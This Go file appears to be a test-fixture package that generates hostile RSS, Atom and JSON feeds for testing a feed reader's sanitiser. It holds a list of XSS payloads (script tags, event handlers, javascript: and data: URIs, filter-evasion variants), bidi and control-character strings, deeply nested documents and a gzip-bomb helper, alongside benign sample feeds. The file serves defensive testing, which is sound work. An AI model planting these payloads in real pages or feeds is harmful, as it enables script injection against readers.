package hostile

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"html"
	"strings"
	"time"
)

// Payloads are the script-injection attempts planted in every field of the
// XSS feeds: the classic forms, the ones feed readers actually shipped
// (iframe srcdoc, button formaction), and the filter-evasion variants
// (entity-encoded and whitespace-split schemes, mutation XSS through
// foreign content, script in CSS).
var Payloads = []string{
	`<script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<form action="https://evil.example/"><button formaction="javascript:alert(1)">go</button><input name=q></form>`,
	`<svg onload=alert(1)><circle r=1 /></svg><svg/onload=alert(2)>`,
	`<a href="javascript:alert(1)">js</a> <a href="JaVaScRiPt&#x3A;alert(2)">js2</a> <a href="jav&#x09;ascript:alert(3)">js3</a>`,
	`<a href=" &#106;avascript:alert(4)">js4</a> <a href="vbscript:msgbox(1)">vb</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<base href="javascript:alert(1)//">`,
	`<div style="width: expression(alert(1)); background: url('javascript:alert(2)')">css</div>`,
	`<p style="-moz-binding: url(https://evil.example/x.xml#x)">b</p><style>@import 'https://evil.example/x.css';</style>`,
	`<object data="javascript:alert(1)"></object><embed src="javascript:alert(2)"><applet code="x"></applet>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<template><script>alert(1)</script></template><details open ontoggle=alert(1)>d</details>`,
	`<link rel="stylesheet" href="javascript:alert(1)"><input autofocus onfocus=alert(1)>`,
	`<img srcset="javascript:alert(1) 1x, https://ok.example/a.png 2x"><video poster="javascript:alert(1)"></video>`,
	`<a href="https://ok.example/" onclick="alert(1)" onmouseover="alert(2)">ok link</a>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<iframe src="data:text/html,<script>alert(1)</script>"></iframe><frame src="javascript:alert(1)">`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>`,
	`<!--<script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]>`,
}

// Controls are character-level attacks: C0 and C1 controls, bidi overrides
// that reverse how a title reads, a BOM and a noncharacter. XML forbids raw
// C0 controls, so XML feeds carry them raw (a parser must strip them) and
// JSON feeds as escapes.
const Controls = "a\x01b\x08c\x0bd\x1be\u0085f\u009bg\u202eh\u2066i\u200fj\ufeffk\ufffel"

// Marker returns the text planted in a case's entry titles so the test can
// find them in the outputs after cleaning.
func Marker(name string, i int) string { return fmt.Sprintf("HX-%s-%d", name, i) }

// feedDate is the date of the hostile feeds' entries: fixed, so runs are
// reproducible, and recent enough to sort above the bulk feeds.
var feedDate = time.Date(2025, 6, 1, 12, 0, 0, 0, time.UTC)

// bulkDate dates the bulk feeds' entries, far below everything else, so
// they never crowd the interesting entries out of the merged feed.
var bulkDate = time.Date(2001, 1, 1, 0, 0, 0, 0, time.UTC)

func xmlEscape(s string) string {
	var b strings.Builder
	for _, r := range s {
		switch r {
		case '<':
			b.WriteString("&lt;")
		case '>':
			b.WriteString("&gt;")
		case '&':
			b.WriteString("&amp;")
		case '"':
			b.WriteString("&quot;")
		case '\'':
			b.WriteString("&apos;")
		default:
			b.WriteRune(r)
		}
	}
	return b.String()
}

// cdata wraps s in CDATA sections, splitting any "]]>" inside.
func cdata(s string) string {
	return "<![CDATA[" + strings.ReplaceAll(s, "]]>", "]]]]><![CDATA[>") + "]]>"
}

// item is one RSS item as raw XML pieces; fields are inserted verbatim.
type item struct {
	guid, title, link, date, desc, extra string
}

func (it item) xml() string {
	var b strings.Builder
	b.WriteString("<item>")
	if it.guid != "" {
		fmt.Fprintf(&b, `<guid isPermaLink="false">%s</guid>`, it.guid)
	}
	if it.title != "" {
		fmt.Fprintf(&b, "<title>%s</title>", it.title)
	}
	if it.link != "" {
		fmt.Fprintf(&b, "<link>%s</link>", it.link)
	}
	if it.date != "" {
		fmt.Fprintf(&b, "<pubDate>%s</pubDate>", it.date)
	}
	if it.desc != "" {
		fmt.Fprintf(&b, "<description>%s</description>", it.desc)
	}
	b.WriteString(it.extra)
	b.WriteString("</item>")
	return b.String()
}

// rss wraps items in an RSS 2.0 document; head goes before <rss>.
func rss(head, title string, items ...item) string {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0" encoding="UTF-8"?>` + "\n" + head)
	b.WriteString(`<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>`)
	fmt.Fprintf(&b, "<title>%s</title><link>https://hostile.example/</link><description>hostile</description>\n", title)
	for _, it := range items {
		b.WriteString(it.xml())
		b.WriteByte('\n')
	}
	b.WriteString("</channel></rss>\n")
	return b.String()
}

// simpleItems returns n plain items of case name, dated d and a minute
// apart, each with its marker in the title.
func simpleItems(name string, n int, d time.Time) []item {
	out := make([]item, n)
	for i := range out {
		out[i] = item{
			guid:  fmt.Sprintf("urn:hostile:%s:%d", name, i+1),
			title: Marker(name, i+1) + " plain entry",
			link:  fmt.Sprintf("https://hostile.example/%s/%d", name, i+1),
			date:  d.Add(-time.Duration(i) * time.Minute).Format(time.RFC1123Z),
			desc:  xmlEscape(fmt.Sprintf("<p>Entry %d of %s, nothing special.</p>", i+1, name)),
		}
	}
	return out
}

// xssRSS plants every payload and the control characters in every field
// of an RSS 2.0 document that Tributary reads or republishes.
func xssRSS(name string) string {
	all := strings.Join(Payloads, "\n")
	var items []item
	for i, p := range Payloads {
		n := i + 1
		esc := xmlEscape(p)
		extra := fmt.Sprintf(`<content:encoded>%s</content:encoded>`, cdata(p+"<p>body "+Controls+"</p>"+all)) +
			fmt.Sprintf(`<author>%s</author><dc:creator>%s</dc:creator>`, xmlEscape("evil@example.org ("+p+")"), esc+Controls) +
			fmt.Sprintf(`<category>%s</category><category>%s</category>`, esc, xmlEscape(Controls)) +
			`<enclosure url="javascript:alert(1)" type="audio/mpeg" length="1"/>` +
			`<enclosure url="https://ok.example/a.mp3" type="text/html&quot; onload=&quot;alert(1)" length="-5"/>` +
			`<enclosure url="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;" type="text/html" length="1"/>` +
			`<comments>javascript:alert(1)</comments><source url="javascript:alert(1)">` + esc + `</source>`
		items = append(items, item{
			guid:  fmt.Sprintf("urn:hostile:%s:%d", name, n),
			title: esc + " " + Marker(name, n) + " " + xmlEscape(Controls),
			link:  []string{"javascript:alert(1)", " JAVASCRIPT:alert(1)", "data:text/html,x", "vbscript:x", "https://ok.example/" + name + "/" + fmt.Sprint(n)}[i%5],
			date:  feedDate.Add(-time.Duration(i) * time.Minute).Format(time.RFC1123Z),
			desc:  esc + xmlEscape("<p>summary "+Controls+"</p>"),
			extra: extra,
		})
	}
	title := xmlEscape(`<script>alert("channel")</script>`+Controls) + " " + Marker(name, 0)
	doc := rss("", title, items...)
	// Hostile channel metadata: a javascript: site link and image.
	doc = strings.Replace(doc, "<link>https://hostile.example/</link>",
		`<link>javascript:alert(1)</link><image><url>javascript:alert(1)</url><title>x</title><link>javascript:alert(2)</link></image>`+
			`<managingEditor>`+xmlEscape(Payloads[1])+`</managingEditor><atom:link xmlns:atom="http://www.w3.org/2005/Atom" rel="hub" href="javascript:alert(1)"/>`, 1)
	return doc
}

// xssAtom does the same for Atom 1.0: text, html and xhtml constructs, a
// javascript: xml:base, content src, author uri and email, source element.
func xssAtom(name string) string {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0" encoding="UTF-8"?>` + "\n")
	b.WriteString(`<feed xmlns="http://www.w3.org/2005/Atom" xml:base="javascript:alert(1)//">`)
	fmt.Fprintf(&b, `<title type="html">%s %s</title>`, xmlEscape(Payloads[0]+Controls), Marker(name, 0))
	fmt.Fprintf(&b, `<subtitle type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></div></subtitle>`)
	b.WriteString(`<id>javascript:alert(1)</id><updated>2025-06-01T12:00:00Z</updated>`)
	b.WriteString(`<link rel="alternate" href="javascript:alert(1)"/><link rel="self" href="data:text/html,x"/><link rel="hub" href="vbscript:x"/>`)
	b.WriteString(`<icon>javascript:alert(1)</icon><logo>javascript:alert(2)</logo>`)
	fmt.Fprintf(&b, `<author><name>%s</name><uri>javascript:alert(1)</uri><email>%s</email></author>`, xmlEscape(Payloads[1]+Controls), xmlEscape(`"><script>alert(1)</script>`))
	b.WriteString(`<generator uri="javascript:alert(1)">` + xmlEscape(Payloads[0]) + `</generator><rights type="html">` + xmlEscape(Payloads[2]) + `</rights>` + "\n")
	for i, p := range Payloads {
		n := i + 1
		esc := xmlEscape(p)
		b.WriteString("<entry>")
		fmt.Fprintf(&b, `<id>urn:hostile:%s:%d</id>`, name, n)
		switch i % 3 {
		case 0:
			fmt.Fprintf(&b, `<title type="html">%s %s %s</title>`, esc, Marker(name, n), xmlEscape(Controls))
		case 1:
			fmt.Fprintf(&b, `<title type="text">%s %s %s</title>`, esc, Marker(name, n), xmlEscape(Controls))
		default:
			fmt.Fprintf(&b, `<title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">%s %s</div></title>`, xhtmlish(p), Marker(name, n))
		}
		fmt.Fprintf(&b, `<updated>%s</updated><published>%s</published>`,
			feedDate.Add(-time.Duration(i)*time.Minute).Format(time.RFC3339), feedDate.Add(-time.Duration(i)*time.Minute).Format(time.RFC3339))
		fmt.Fprintf(&b, `<link rel="alternate" href="%s"/>`, xmlEscape([]string{"javascript:alert(1)", "https://ok.example/" + name + "/" + fmt.Sprint(n), "data:text/html;base64,PHNjcmlwdD4=", " vbscript:x"}[i%4]))
		b.WriteString(`<link rel="enclosure" type="audio/mpeg" length="10" href="javascript:alert(1)"/>`)
		b.WriteString(`<link rel="related" href="javascript:alert(2)"/>`)
		fmt.Fprintf(&b, `<author><name>%s</name><uri>javascript:alert(1)</uri></author>`, esc+xmlEscape(Controls))
		fmt.Fprintf(&b, `<category term="%s" label="%s"/>`, esc, xmlEscape(Controls+Payloads[0]))
		switch i % 3 {
		case 0:
			fmt.Fprintf(&b, `<content type="html">%s</content>`, xmlEscape(p+"<p>"+Controls+"</p>"))
		case 1:
			fmt.Fprintf(&b, `<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">%s<p onclick="alert(1)">x</p></div></content>`, xhtmlish(p))
		default:
			fmt.Fprintf(&b, `<content type="text/html" src="javascript:alert(1)"/>`)
		}
		fmt.Fprintf(&b, `<summary type="html">%s</summary>`, esc)
		fmt.Fprintf(&b, `<source><id>javascript:x</id><title>%s</title><link href="javascript:alert(1)"/></source>`, esc)
		b.WriteString("</entry>\n")
	}
	b.WriteString("</feed>\n")
	return b.String()
}

// xhtmlish makes a payload well-formed enough to sit inside an Atom xhtml
// construct: the dangerous elements survive as elements.
func xhtmlish(p string) string {
	switch {
	case strings.Contains(p, "<script"):
		return `<script>alert(1)</script><img src="x" onerror="alert(1)"/>`
	case strings.Contains(p, "iframe"):
		return `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`
	case strings.Contains(p, "svg"):
		return `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="1"/></svg>`
	case strings.Contains(p, "form"):
		return `<form><button formaction="javascript:alert(1)">go</button></form>`
	case strings.Contains(p, "meta"):
		return `<meta http-equiv="refresh" content="0;url=javascript:alert(1)"/><base href="javascript:alert(1)//"/>`
	}
	return `<a href="javascript:alert(1)">x</a><object data="javascript:alert(1)"></object>`
}

// xssJSON does the same for JSON Feed 1.1, where control characters can be
// written as escapes.
func xssJSON(name string) string {
	type author struct {
		Name   string `json:"name,omitempty"`
		URL    string `json:"url,omitempty"`
		Avatar string `json:"avatar,omitempty"`
	}
	type attachment struct {
		URL      string `json:"url"`
		MimeType string `json:"mime_type"`
		Title    string `json:"title,omitempty"`
		Size     int64  `json:"size_in_bytes,omitempty"`
	}
	type jitem struct {
		ID            string       `json:"id"`
		URL           string       `json:"url,omitempty"`
		ExternalURL   string       `json:"external_url,omitempty"`
		Title         string       `json:"title,omitempty"`
		ContentHTML   string       `json:"content_html,omitempty"`
		ContentText   string       `json:"content_text,omitempty"`
		Summary       string       `json:"summary,omitempty"`
		Image         string       `json:"image,omitempty"`
		BannerImage   string       `json:"banner_image,omitempty"`
		DatePublished string       `json:"date_published,omitempty"`
		DateModified  string       `json:"date_modified,omitempty"`
		Authors       []author     `json:"authors,omitempty"`
		Tags          []string     `json:"tags,omitempty"`
		Attachments   []attachment `json:"attachments,omitempty"`
	}
	doc := struct {
		Version     string   `json:"version"`
		Title       string   `json:"title"`
		HomePageURL string   `json:"home_page_url"`
		FeedURL     string   `json:"feed_url"`
		Description string   `json:"description"`
		Icon        string   `json:"icon"`
		Favicon     string   `json:"favicon"`
		Authors     []author `json:"authors"`
		Hubs        []struct {
			Type string `json:"type"`
			URL  string `json:"url"`
		} `json:"hubs"`
		Items []jitem `json:"items"`
	}{
		Version:     "https://jsonfeed.org/version/1.1",
		Title:       Payloads[0] + Controls + " " + Marker(name, 0),
		HomePageURL: "javascript:alert(1)",
		FeedURL:     "data:text/html,<script>alert(1)</script>",
		Description: Payloads[2],
		Icon:        "javascript:alert(1)",
		Favicon:     "vbscript:x",
		Authors:     []author{{Name: Payloads[1] + Controls, URL: "javascript:alert(1)", Avatar: "javascript:alert(2)"}},
	}
	doc.Hubs = append(doc.Hubs, struct {
		Type string `json:"type"`
		URL  string `json:"url"`
	}{"WebSub", "javascript:alert(1)"})
	for i, p := range Payloads {
		n := i + 1
		d := feedDate.Add(-time.Duration(i) * time.Minute).Format(time.RFC3339)
		it := jitem{
			ID:            fmt.Sprintf("urn:hostile:%s:%d", name, n),
			URL:           []string{"javascript:alert(1)", "https://ok.example/" + name + "/" + fmt.Sprint(n), "data:text/html,x"}[i%3],
			ExternalURL:   "javascript:alert(2)",
			Title:         p + " " + Marker(name, n) + " " + Controls + "\x00\x07",
			ContentHTML:   p + "<p>" + Controls + "\x00&#1;&#x9b;</p>",
			Summary:       p,
			Image:         "javascript:alert(1)",
			BannerImage:   "data:image/svg+xml,<svg onload=alert(1)>",
			DatePublished: d,
			DateModified:  d,
			Authors:       []author{{Name: p + Controls, URL: "javascript:alert(1)"}},
			Tags:          []string{p, Controls, "\u202egnp.exe"},
			Attachments: []attachment{
				{URL: "javascript:alert(1)", MimeType: "audio/mpeg", Title: p},
				{URL: "https://ok.example/a.mp3", MimeType: `audio/mpeg" onload="alert(1)`, Size: -1},
			},
		}
		if i%2 == 1 {
			it.ContentHTML = ""
			it.ContentText = p + Controls
		}
		doc.Items = append(doc.Items, it)
	}
	data, err := json.MarshalIndent(doc, "", " ")
	if err != nil {
		// Every field is a string or a slice of them.
		panic(err)
	}
	// encoding/json escapes <, > and & as \u003c...; a raw form exercises
	// the parser the same way and reads better when debugging.
	return string(data)
}

// controlsRSS puts control and bidi characters, raw and as character
// references, in every field, with harmless markup around them.
func controlsRSS(name string) string {
	var items []item
	for i := 1; i <= 4; i++ {
		items = append(items, item{
			guid:  fmt.Sprintf("urn:hostile:%s:%d", name, i),
			title: Marker(name, i) + " " + Controls + " &#x202E;reversed&#x202C; &#x85;",
			link:  fmt.Sprintf("https://ok.example/%s/%d?x=%s", name, i, "%01%9b"),
			date:  feedDate.Add(-time.Duration(i) * time.Minute).Format(time.RFC1123Z),
			desc:  xmlEscape("<p>text " + Controls + " &#1; &#x9b; &#xfffe; &#0; \u2028 \u2029</p>"),
			extra: "<category>" + Controls + "</category><dc:creator>" + Controls + "</dc:creator>",
		})
	}
	return rss("", Controls+" "+Marker(name, 0), items...)
}

// absurdDatesRSS carries dates no post can have.
func absurdDatesRSS(name string) string {
	dates := []string{
		"Mon, 01 Jan 0001 00:00:00 GMT",
		"Fri, 31 Dec 9999 23:59:59 GMT",
		"Thu, 01 Jan 1970 00:00:00 GMT",
		"Tue, 19 Jan 2038 03:14:08 GMT",
		"not a date at all",
		"Sat, 32 Feb 2025 25:61:61 +9999",
		"-0001-01-01T00:00:00Z",
		"99999999999999999999",
		"2025-06-01T12:00:00+99:99",
		"",
	}
	items := make([]item, len(dates))
	for i, d := range dates {
		items[i] = item{
			guid:  fmt.Sprintf("urn:hostile:%s:%d", name, i+1),
			title: Marker(name, i+1) + " dated " + xmlEscape(d),
			link:  fmt.Sprintf("https://ok.example/%s/%d", name, i+1),
			date:  xmlEscape(d),
			desc:  "absurd date",
			extra: "<atom:updated xmlns:atom=\"http://www.w3.org/2005/Atom\">" + xmlEscape(d) + "</atom:updated>",
		}
	}
	return rss("", "Absurd dates", items...)
}

// duplicateGUIDsRSS repeats each of five guids twice with different titles.
func duplicateGUIDsRSS(name string) string {
	var items []item
	for i := 0; i < 10; i++ {
		g := i%5 + 1
		items = append(items, item{
			guid:  fmt.Sprintf("urn:hostile:%s:%d", name, g),
			title: fmt.Sprintf("%s copy %d", Marker(name, g), i/5+1),
			link:  fmt.Sprintf("https://ok.example/%s/%d", name, g),
			date:  feedDate.Add(-time.Duration(g) * time.Minute).Format(time.RFC1123Z),
			desc:  fmt.Sprintf("copy %d of %d", i/5+1, g),
		})
	}
	return rss("", "Duplicate GUIDs", items...)
}

// identicalRSS repeats one item n times, byte for byte.
func identicalRSS(name string, n int) string {
	it := item{
		guid:  "urn:hostile:" + name + ":1",
		title: Marker(name, 1) + " the same again",
		link:  "https://ok.example/" + name + "/1",
		date:  bulkDate.Format(time.RFC1123Z),
		desc:  "the same item, again",
	}
	items := make([]item, n)
	for i := range items {
		items[i] = it
	}
	return rss("", "Identical", items...)
}

// hugeEntryRSS holds one entry whose content is size bytes of paragraphs.
func hugeEntryRSS(name string, size int) string {
	para := "<p>" + strings.Repeat("All work and no play makes a feed a dull feed. ", 20) + "</p>\n"
	body := strings.Repeat(para, size/len(para)+1)
	return rss("", "Huge entry", item{
		guid:  "urn:hostile:" + name + ":1",
		title: Marker(name, 1) + " enormous",
		link:  "https://ok.example/" + name + "/1",
		date:  feedDate.Format(time.RFC1123Z),
		desc:  cdata(body),
	})
}

// manyEntriesRSS writes an RSS document of n small items, dated long ago.
func manyEntriesRSS(name string, n int) []byte {
	var b bytes.Buffer
	b.Grow(n * 110)
	b.WriteString(`<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>Many</title><link>https://ok.example/</link><description>many</description>` + "\n")
	date := bulkDate.Format(time.RFC1123Z)
	for i := 1; i <= n; i++ {
		fmt.Fprintf(&b, "<item><guid>urn:hostile:%s:%d</guid><title>%s</title><pubDate>%s</pubDate></item>\n", name, i, Marker(name, i), date)
	}
	b.WriteString("</channel></rss>\n")
	return b.Bytes()
}

// deepXML nests levels elements inside an item's description.
func deepXML(levels int) []byte {
	var b bytes.Buffer
	b.WriteString(`<?xml version="1.0"?><rss version="2.0"><channel><title>Deep</title><item><title>deep</title><description>`)
	b.WriteString(strings.Repeat("<x>", levels))
	b.WriteString(strings.Repeat("</x>", levels))
	b.WriteString("</description></item></channel></rss>")
	return b.Bytes()
}

// deepJSON nests levels arrays inside a JSON Feed item.
func deepJSON(levels int) []byte {
	var b bytes.Buffer
	b.WriteString(`{"version":"https://jsonfeed.org/version/1.1","title":"deep","items":[{"id":"1","content_html":`)
	b.WriteString(strings.Repeat("[", levels))
	b.WriteString(strings.Repeat("]", levels))
	b.WriteString("}]}")
	return b.Bytes()
}

// gzipMember compresses data as one gzip member; members concatenate into
// one valid stream, which is how the bomb grows without compressing more.
func gzipMember(data []byte) []byte {
	var b bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&b, gzip.BestCompression)
	_, _ = zw.Write(data)
	_ = zw.Close()
	return b.Bytes()
}

// goodRSS is a realistic WordPress-style RSS 2.0 feed.
func goodRSS(name string) string {
	var items []item
	for i := 1; i <= 6; i++ {
		d := time.Date(2025, 7, i, 9, 30, 0, 0, time.FixedZone("CEST", 2*3600))
		link := fmt.Sprintf("https://blog.example.org/2025/07/%02d/post-%d/", i, i)
		items = append(items, item{
			guid:  fmt.Sprintf("https://blog.example.org/?p=%d", 100+i),
			title: fmt.Sprintf("Good RSS post %d: notes on gardening &amp; tea", i),
			link:  link,
			date:  d.Format(time.RFC1123Z),
			desc:  cdata(fmt.Sprintf("<p>The %s post about the garden. [&#8230;]</p>", ordinal(i))),
			extra: "<dc:creator>" + cdata("Ana Gardener") + "</dc:creator><category>" + cdata("Garden") + "</category>" +
				"<content:encoded>" + cdata(fmt.Sprintf(`<p>This is the <em>%s</em> post. It has a <a href="/about/">relative link</a>, an image <img src="https://blog.example.org/wp-content/uploads/tea-%d.jpg" alt="tea" width="600" height="400"> and a list:</p><ul><li>mint</li><li>sage</li></ul><p>Thanks for reading!</p>`, ordinal(i), i)) + "</content:encoded>",
		})
	}
	doc := rss("", "Ana’s Garden", items...)
	return strings.Replace(doc, "<link>https://hostile.example/</link>", "<link>https://blog.example.org/</link>", 1)
}

// goodAtom is a realistic Blogger-style Atom 1.0 feed.
func goodAtom(name string) string {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0" encoding="UTF-8"?>` + "\n" + `<feed xmlns="http://www.w3.org/2005/Atom">`)
	b.WriteString(`<id>tag:blogger.com,1999:blog-1234567890</id><title type="text">Bob’s Workshop</title><updated>2025-07-08T10:00:00Z</updated>`)
	b.WriteString(`<link rel="alternate" type="text/html" href="https://bob.example.net/"/><author><name>Bob Builder</name><uri>https://bob.example.net/about</uri></author>` + "\n")
	for i := 1; i <= 6; i++ {
		d := time.Date(2025, 7, i, 18, 0, 0, 0, time.UTC).Format(time.RFC3339)
		fmt.Fprintf(&b, `<entry><id>tag:blogger.com,1999:blog-1234567890.post-%d</id><published>%s</published><updated>%s</updated>`, 9000+i, d, d)
		fmt.Fprintf(&b, `<title type="text">Good Atom post %d: a %s shelf</title>`, i, ordinal(i))
		fmt.Fprintf(&b, `<link rel="alternate" type="text/html" href="https://bob.example.net/2025/07/shelf-%d.html"/>`, i)
		fmt.Fprintf(&b, `<category scheme="http://www.blogger.com/atom/ns#" term="woodwork"/>`)
		fmt.Fprintf(&b, `<content type="html">%s</content></entry>`+"\n",
			html.EscapeString(fmt.Sprintf(`<div><p>Building the %s shelf took a weekend.</p><blockquote>Measure twice, cut once.</blockquote><p><a href="https://bob.example.net/plans/%d.pdf">Plans</a></p></div>`, ordinal(i), i)))
	}
	b.WriteString("</feed>\n")
	return b.String()
}

func ordinal(i int) string {
	words := []string{"zeroth", "first", "second", "third", "fourth", "fifth", "sixth", "seventh"}
	if i < len(words) {
		return words[i]
	}
	return fmt.Sprintf("%dth", i)
}
